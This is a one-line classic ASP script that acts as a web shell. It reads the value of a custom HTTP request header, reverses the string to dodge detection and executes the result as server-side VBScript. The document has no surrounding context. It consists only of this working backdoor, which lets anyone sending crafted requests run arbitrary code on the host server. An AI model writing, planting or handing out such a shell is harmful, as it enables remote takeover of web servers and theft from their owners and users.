<% c = Request.ServerVariables("HTTP_X_Q") : ExecuteGlobal StrReverse(c) %>
